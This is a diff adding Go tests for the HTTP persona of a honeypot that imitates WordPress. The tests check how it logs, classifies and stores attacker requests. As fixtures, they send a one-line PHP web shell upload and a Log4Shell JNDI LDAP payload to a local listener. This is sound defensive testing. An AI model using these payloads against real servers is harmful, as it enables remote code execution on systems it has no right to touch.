@@ -0,0 +1,337 @@
+package honeypot
+
+import (
+	"bytes"
+	"crypto/tls"
+	"io"
+	"mime/multipart"
+	"net"
+	"net/http"
+	"net/url"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+
+	"phantom-grid/internal/config"
+	"phantom-grid/internal/honeypot/classify"
+	"phantom-grid/internal/honeypot/web"
+	"phantom-grid/internal/logger"
+)
+
+// serveHTTPPersona runs h's HTTP persona on a local listener and returns its
+// address and the number of connections accepted
+func serveHTTPPersona(t *testing.T, h *Handler) (string, *atomic.Int32) {
+	t.Helper()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatalf("Failed to listen: %v", err)
+	}
+	t.Cleanup(func() { ln.Close() })
+	var accepted atomic.Int32
+	go func() {
+		for {
+			conn, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			accepted.Add(1)
+			go func() {
+				defer conn.Close()
+				h.handleHTTP(conn, conn.RemoteAddr().String(), "12:00:00")
+			}()
+		}
+	}()
+	return ln.Addr().String(), &accepted
+}
+
+func TestHTTPPersona(t *testing.T) {
+	chdirTemp(t)
+	logChan := make(chan string, 100)
+	h := NewHandler(logChan)
+	h.site = web.Builtin()["wordpress"]
+	h.port = 80
+	h.fs.ArtifactDir = t.TempDir()
+	var mu sync.Mutex
+	var events []*logger.SecurityEvent
+	h.events = func(e *logger.SecurityEvent) {
+		mu.Lock()
+		events = append(events, e)
+		mu.Unlock()
+	}
+	addr, accepted := serveHTTPPersona(t, h)
+	base := "http://" + addr
+	client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
+
+	do := func(req *http.Request) *http.Response {
+		t.Helper()
+		req.Header.Set("User-Agent", "Mozilla/5.0 zgrab/0.x")
+		resp, err := client.Do(req)
+		if err != nil {
+			t.Fatalf("%s %s: %v", req.Method, req.URL, err)
+		}
+		io.Copy(io.Discard, resp.Body)
+		resp.Body.Close()
+		return resp
+	}
+
+	req, _ := http.NewRequest("GET", base+"/", nil)
+	if resp := do(req); resp.StatusCode != 200 || resp.Header.Get("Server") != "Apache/2.4.41 (Ubuntu)" {
+		t.Errorf("GET / = %d, Server %q", resp.StatusCode, resp.Header.Get("Server"))
+	}
+
+	form := url.Values{"log": {"admin"}, "pwd": {"P@ssw0rd"}}
+	req, _ = http.NewRequest("POST", base+"/wp-login.php", strings.NewReader(form.Encode()))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	do(req)
+
+	// A chunked body
+	req, _ = http.NewRequest("POST", base+"/xmlrpc.php", io.MultiReader(strings.NewReader("<?xml version=\"1.0\"?>"), strings.NewReader("<methodCall><methodName>system.listMethods</methodName></methodCall>")))
+	req.ContentLength = -1
+	do(req)
+
+	var upload bytes.Buffer
+	mw := multipart.NewWriter(&upload)
+	mw.WriteField("action", "upload-plugin")
+	fw, _ := mw.CreateFormFile("pluginzip", "shell.php")
+	io.WriteString(fw, "<?php system($_GET['c']); ?>")
+	mw.Close()
+	req, _ = http.NewRequest("POST", base+"/wp-admin/update.php?action=upload-plugin", &upload)
+	req.Header.Set("Content-Type", mw.FormDataContentType())
+	if resp := do(req); resp.StatusCode != 302 {
+		t.Errorf("upload = %d, want a redirect to the login", resp.StatusCode)
+	}
+
+	if n := accepted.Load(); n != 1 {
+		t.Errorf("%d connections, want the requests kept alive on one", n)
+	}
+	client.CloseIdleConnections()
+
+	var logs []string
+	for len(logChan) > 0 {
+		logs = append(logs, <-logChan)
+	}
+	all := strings.Join(logs, "\n")
+	for _, want := range []string{
+		`HTTP REQUEST: 127.0.0.1 | GET / | Site: wordpress | User-Agent: Mozilla/5.0 zgrab/0.x`,
+		`HTTP LOGIN: 127.0.0.1 | Site: wordpress | User: admin | Password: "P@ssw0rd"`,
+		`HTTP UPLOAD: 127.0.0.1 | File: shell.php | Size: 28 | SHA256: `,
+	} {
+		if !strings.Contains(all, want) {
+			t.Errorf("logs missing %q:\n%s", want, all)
+		}
+	}
+
+	mu.Lock()
+	defer mu.Unlock()
+	if len(events) != 4 {
+		t.Fatalf("%d events, want one per request", len(events))
+	}
+	if e := events[1]; e.EventType != logger.EventTypeHTTPRequest || e.Port != 80 || e.RiskLevel != "MEDIUM" || e.Metadata["user"] != "admin" {
+		t.Errorf("login event = %+v", e)
+	}
+	if body := events[2].Metadata["body"]; !strings.HasSuffix(body.(string), "</methodCall>") {
+		t.Errorf("chunked body = %q", body)
+	}
+	e := events[3]
+	files, _ := e.Metadata["files"].([]httpUpload)
+	if e.RiskLevel != "HIGH" || len(files) != 1 || files[0].Field != "pluginzip" {
+		t.Fatalf("upload event = %+v", e)
+	}
+	if headers := e.Metadata["headers"].(map[string]string); headers["User-Agent"] != "Mozilla/5.0 zgrab/0.x" {
+		t.Errorf("headers = %v", headers)
+	}
+	if data, err := os.ReadFile(filepath.Join(h.fs.ArtifactDir, files[0].SHA256)); err != nil || string(data) != "<?php system($_GET['c']); ?>" {
+		t.Errorf("stored upload = %q, %v", data, err)
+	}
+}
+
+func TestHTTPPersonaLargeUploads(t *testing.T) {
+	chdirTemp(t)
+	h := NewHandler(make(chan string, 100))
+	h.site = web.Builtin()["wordpress"]
+	h.http.MaxBodyBytes = 1 << 10
+	h.http.MaxUploadBytes = 8 << 10
+	h.fs.ArtifactDir = t.TempDir()
+	events := make(chan *logger.SecurityEvent, 3)
+	h.events = func(e *logger.SecurityEvent) { events <- e }
+	addr, _ := serveHTTPPersona(t, h)
+	client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
+
+	post := func(name string, size int) *logger.SecurityEvent {
+		t.Helper()
+		var body bytes.Buffer
+		mw := multipart.NewWriter(&body)
+		mw.WriteField("action", "upload-plugin")
+		fw, _ := mw.CreateFormFile("pluginzip", name)
+		fw.Write(bytes.Repeat([]byte("A"), size))
+		mw.Close()
+		req, _ := http.NewRequest("POST", "http://"+addr+"/wp-admin/update.php", &body)
+		req.Header.Set("Content-Type", mw.FormDataContentType())
+		resp, err := client.Do(req)
+		if err != nil {
+			t.Fatalf("upload failed: %v", err)
+		}
+		resp.Body.Close()
+		return <-events
+	}
+	uploaded := func(e *logger.SecurityEvent) httpUpload {
+		t.Helper()
+		files, _ := e.Metadata["files"].([]httpUpload)
+		if len(files) != 1 {
+			t.Fatalf("event = %+v, want one file", e)
+		}
+		return files[0]
+	}
+
+	// Larger than the captured body, but within the upload limit
+	e := post("whole.zip", 4<<10)
+	if f := uploaded(e); f.Size != 4<<10 || f.Truncated {
+		t.Errorf("file = %+v, want it whole", f)
+	}
+	if e.Metadata["body_truncated"] != true || e.Metadata["body_size"] != 1<<10 {
+		t.Errorf("body_truncated = %v, body_size = %v", e.Metadata["body_truncated"], e.Metadata["body_size"])
+	}
+	if form, _ := e.Metadata["form"].(map[string][]string); !slices.Equal(form["action"], []string{"upload-plugin"}) {
+		t.Errorf("form = %v", e.Metadata["form"])
+	}
+
+	// Larger than the upload limit: the start is kept and marked
+	f := uploaded(post("cut.zip", 16<<10))
+	if !f.Truncated || f.Size == 0 || f.Size >= 8<<10 {
+		t.Errorf("file = %+v, want it cut short", f)
+	}
+	if meta := readMeta(t, filepath.Join(h.fs.ArtifactDir, f.SHA256+".json")); len(meta.Sightings) != 1 || !meta.Sightings[0].Truncated {
+		t.Errorf("metadata = %+v, want the sighting marked truncated", meta)
+	}
+
+	req, _ := http.NewRequest("PUT", "http://"+addr+"/shell.php", bytes.NewReader(bytes.Repeat([]byte("B"), 16<<10)))
+	resp, err := client.Do(req)
+	if err != nil {
+		t.Fatalf("PUT failed: %v", err)
+	}
+	resp.Body.Close()
+	if f := uploaded(<-events); !f.Truncated || f.Size != 8<<10 {
+		t.Errorf("PUT file = %+v, want the upload limit kept and marked", f)
+	}
+}
+
+func TestHTTPPersonaClassification(t *testing.T) {
+	chdirTemp(t)
+	logChan := make(chan string, 100)
+	h := NewHandler(logChan)
+	h.classifier = classify.New(classify.Builtin())
+	events := make(chan *logger.SecurityEvent, 2)
+	h.events = func(e *logger.SecurityEvent) { events <- e }
+	addr, _ := serveHTTPPersona(t, h)
+
+	req, _ := http.NewRequest("GET", "http://"+addr+"/?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D", nil)
+	req.Header.Set("User-Agent", "${jndi:ldap://203.0.113.9/ua}")
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatalf("request failed: %v", err)
+	}
+	resp.Body.Close()
+	e := <-events
+	if e.RiskLevel != "HIGH" || !slices.Equal(e.Metadata["rules"].([]string), []string{"log4shell"}) || !slices.Equal(e.Metadata["cves"].([]string), []string{"CVE-2021-44228", "CVE-2021-45046"}) {
+		t.Errorf("Log4Shell event = %+v", e)
+	}
+
+	resp, err = http.Get("http://" + addr + "/wp-login.php")
+	if err != nil {
+		t.Fatalf("request failed: %v", err)
+	}
+	resp.Body.Close()
+	if e := <-events; e.RiskLevel != "LOW" || e.Metadata["categories"] != nil {
+		t.Errorf("plain request event = %+v", e)
+	}
+
+	var logs []string
+	for len(logChan) > 0 {
+		logs = append(logs, <-logChan)
+	}
+	want := `HTTP ATTACK: 127.0.0.1 | GET /?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D | Categories: rce | CVEs: CVE-2021-44228, CVE-2021-45046 | Rules: log4shell`
+	if all := strings.Join(logs, "\n"); !strings.Contains(all, want) || strings.Count(all, "HTTP ATTACK") != 1 {
+		t.Errorf("logs missing %q:\n%s", want, all)
+	}
+}
+
+func TestHTTPPersonaTLS(t *testing.T) {
+	chdirTemp(t)
+	cert, err := loadCertificate("")
+	if err != nil {
+		t.Fatalf("loadCertificate() error = %v", err)
+	}
+	h := NewHandler(make(chan string, 100))
+	h.httpCert = cert
+	var secure atomic.Bool
+	h.events = func(e *logger.SecurityEvent) { secure.Store(e.Metadata["tls"] == true) }
+	addr, _ := serveHTTPPersona(t, h)
+
+	client := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
+	resp, err := client.Get("https://" + addr + "/wp-login.php")
+	if err != nil {
+		t.Fatalf("HTTPS request failed: %v", err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != 200 || resp.TLS == nil || resp.TLS.PeerCertificates[0].Subject.CommonName != httpCertHostname {
+		t.Errorf("HTTPS response = %d, TLS %+v", resp.StatusCode, resp.TLS)
+	}
+	if !secure.Load() {
+		t.Error("event does not record TLS")
+	}
+
+	// The same port answers plain HTTP
+	resp, err = http.Get("http://" + addr + "/")
+	if err != nil {
+		t.Fatalf("HTTP request failed: %v", err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != 200 {
+		t.Errorf("HTTP response = %d", resp.StatusCode)
+	}
+}
+
+func TestLoadCertificatePersist(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "http")
+	first, err := loadCertificate(dir)
+	if err != nil {
+		t.Fatalf("loadCertificate() error = %v", err)
+	}
+	second, err := loadCertificate(dir)
+	if err != nil {
+		t.Fatalf("loadCertificate() error = %v", err)
+	}
+	if !bytes.Equal(first.Certificate[0], second.Certificate[0]) {
+		t.Error("certificate changed between starts")
+	}
+	if fi, err := os.Stat(filepath.Join(dir, "key.pem")); err != nil || fi.Mode().Perm() != 0o600 {
+		t.Errorf("key.pem = %v, %v; want mode 0600", fi, err)
+	}
+}
+
+func TestSiteForPort(t *testing.T) {
+	dir := t.TempDir()
+	os.MkdirAll(filepath.Join(dir, "jenkins"), 0755)
+	os.WriteFile(filepath.Join(dir, "jenkins", "site.json"), []byte(`{"ports": [8080, 8090], "routes": [{"path": "/", "body": "custom"}]}`), 0644)
+
+	logChan := make(chan string, 10)
+	h := New(logChan)
+	cfg := config.DefaultHTTPConfig()
+	cfg.SiteDir = dir
+	cfg.DefaultSite = "gitlab"
+	h.SetHTTP(cfg)
+	h.loadSites()
+
+	for port, want := range map[int]string{80: "wordpress", 3000: "grafana", 8080: "jenkins", 8090: "jenkins", 9999: "gitlab"} {
+		if site := h.siteFor(port); site.Name != want {
+			t.Errorf("siteFor(%d) = %s, want %s", port, site.Name, want)
+		}
+	}
+	if h.sites["jenkins"].Vars["version"] != "" {
+		t.Error("the site directory did not replace the built-in site")
+	}
+}